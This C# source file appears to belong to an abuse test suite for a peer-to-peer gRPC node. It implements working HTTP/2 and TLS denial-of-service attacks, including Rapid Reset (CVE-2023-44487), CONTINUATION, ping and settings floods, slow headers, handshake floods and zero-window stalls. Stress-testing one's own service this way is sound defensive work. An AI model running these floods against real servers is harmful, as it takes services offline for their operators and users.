using System.Net.Sockets;
using System.Security.Cryptography;

namespace P2PGrpc.EndToEnd.Abuse;

/// <summary>Attacks on TLS and HTTP/2, by a stranger whose certificate is in order.</summary>
internal static class ConnectionAttacks
{
    private const int Batch = 100;

    /// <summary>CVE-2023-44487: calls that are begun and taken back at once.</summary>
    public static Task RapidResetAsync(Attacker attacker, CancellationToken stop) => Attacker.RepeatAsync(2, async cancellationToken =>
    {
        await using var connection = await attacker.ConnectAsync(cancellationToken);
        connection.StartReading();
        var headers = Http2Frame.WriteCallHeaders("/p2pgrpc.v1.PeerService/Link");
        for (var id = 1; ; id += 2 * Batch)
        {
            var batch = new List<byte>();
            for (var call = id; call < id + 2 * Batch; call += 2)
            {
                batch.AddRange(Http2Frame.Write(Http2FrameType.Headers, Http2Frame.EndHeaders, call, headers));
                batch.AddRange(Http2Frame.WriteInteger(Http2FrameType.RstStream, call, 8));
            }

            await connection.WriteAsync(batch.ToArray(), cancellationToken);
            attacker.Count(Batch);
        }
    }, stop);

    /// <summary>CVE-2024-24549 and its kind: a header block that never ends.</summary>
    public static Task ContinuationFloodAsync(Attacker attacker, CancellationToken stop) => Attacker.RepeatAsync(2, async cancellationToken =>
    {
        await using var connection = await attacker.ConnectAsync(cancellationToken);
        connection.StartReading();
        await connection.WriteAsync(Http2FrameType.Headers, 0, 1, Http2Frame.WriteCallHeaders("/p2pgrpc.v1.PeerService/Link"), cancellationToken);
        var more = Http2Frame.Write(Http2FrameType.Continuation, 0, 1, Http2Frame.WriteCallHeaders("/x").AsSpan(0, 40));
        var empty = Http2Frame.Write(Http2FrameType.Continuation, 0, 1, []);
        while (true)
        {
            await connection.WriteAsync(Repeat([.. more, .. empty]), cancellationToken);
            attacker.Count(2 * Batch);
        }
    }, stop);

    public static Task PingFloodAsync(Attacker attacker, CancellationToken stop) =>
        FloodAsync(attacker, Http2Frame.Write(Http2FrameType.Ping, 0, 0, new byte[8]), read: true, stop);

    /// <summary>The answers pile up where nobody reads them.</summary>
    public static Task UnreadPingFloodAsync(Attacker attacker, CancellationToken stop) =>
        FloodAsync(attacker, Http2Frame.Write(Http2FrameType.Ping, 0, 0, new byte[8]), read: false, stop);

    public static Task SettingsFloodAsync(Attacker attacker, CancellationToken stop) =>
        FloodAsync(attacker, Http2Frame.WriteSettings((3, 100), (4, 65_535)), read: true, stop);

    /// <summary>Frames without content on an open call.</summary>
    public static Task EmptyDataFloodAsync(Attacker attacker, CancellationToken stop) => Attacker.RepeatAsync(2, async cancellationToken =>
    {
        await using var connection = await attacker.ConnectAsync(cancellationToken);
        connection.StartReading();
        await connection.OpenLinkAsync(1, cancellationToken);
        var empty = Repeat(Http2Frame.Write(Http2FrameType.Data, 0, 1, []));
        while (true)
        {
            await connection.WriteAsync(empty, cancellationToken);
            attacker.Count(Batch);
        }
    }, stop);

    /// <summary>Calls whose headers come a byte at a time.</summary>
    public static Task SlowHeadersAsync(Attacker attacker, CancellationToken stop) => Attacker.RepeatAsync(200, async cancellationToken =>
    {
        await using var connection = await attacker.ConnectAsync(cancellationToken);
        connection.StartReading();
        attacker.Count();
        var headers = Http2Frame.Write(Http2FrameType.Headers, Http2Frame.EndHeaders, 1, Http2Frame.WriteCallHeaders("/p2pgrpc.v1.PeerService/Link"));
        foreach (var one in headers)
        {
            await connection.WriteAsync(new[] { one }, cancellationToken);
            await Task.Delay(TimeSpan.FromMilliseconds(200), TimeProvider.System, cancellationToken);
        }
    }, stop);

    /// <summary>Handshakes that are begun and left: the first bytes of a ClientHello, or nothing at all.</summary>
    public static Task HandshakeFloodAsync(Attacker attacker, CancellationToken stop) => Attacker.RepeatAsync(400, async cancellationToken =>
    {
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(attacker.Node, cancellationToken);
        byte[] begun = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xFC, 3, 3];
        await tcp.GetStream().WriteAsync(begun.AsMemory(0, RandomNumberGenerator.GetInt32(begun.Length)), cancellationToken);
        attacker.Count();
        await tcp.GetStream().ReadAtLeastAsync(new byte[64], 1, throwOnEndOfStream: false, cancellationToken);
    }, stop);

    /// <summary>Whole handshakes, one after the other: each costs the node a signature.</summary>
    public static Task WholeHandshakeFloodAsync(Attacker attacker, CancellationToken stop) => Attacker.RepeatAsync(4, async cancellationToken =>
    {
        await using var connection = await attacker.ConnectAsync(cancellationToken);
        attacker.Count();
    }, stop);

    /// <summary>Calls that are opened and left without a Hello, and connections without a call.</summary>
    public static Task SilentLinksAsync(Attacker attacker, CancellationToken stop) => Attacker.RepeatAsync(250, async cancellationToken =>
    {
        await using var connection = await attacker.ConnectAsync(cancellationToken, RawConnection.WideOpen);
        connection.StartReading();
        for (var id = 1; id <= 7; id += 2)
            await connection.OpenLinkAsync(id, cancellationToken);
        attacker.Count();
        await connection.Data.Completion.WaitAsync(cancellationToken);
    }, stop);

    /// <summary>A reader that allows not one byte.</summary>
    public static Task ZeroWindowAsync(Attacker attacker, CancellationToken stop) => Attacker.RepeatAsync(100, async cancellationToken =>
    {
        await using var connection = await attacker.ConnectAsync(cancellationToken, (4, 0));
        for (var id = 1; id <= 7; id += 2)
            await connection.OpenLinkAsync(id, cancellationToken);
        attacker.Count();
        connection.StartReading();
        await connection.Data.Completion.WaitAsync(cancellationToken);
    }, stop);

    private static Task FloodAsync(Attacker attacker, byte[] frame, bool read, CancellationToken stop) => Attacker.RepeatAsync(2, async cancellationToken =>
    {
        await using var connection = await attacker.ConnectAsync(cancellationToken);
        if (read)
            connection.StartReading();
        var batch = Repeat(frame);
        while (true)
        {
            await connection.WriteAsync(batch, cancellationToken);
            attacker.Count(Batch);
        }
    }, stop);

    private static byte[] Repeat(byte[] frame) => [.. Enumerable.Repeat(frame, Batch).SelectMany(bytes => bytes)];
}
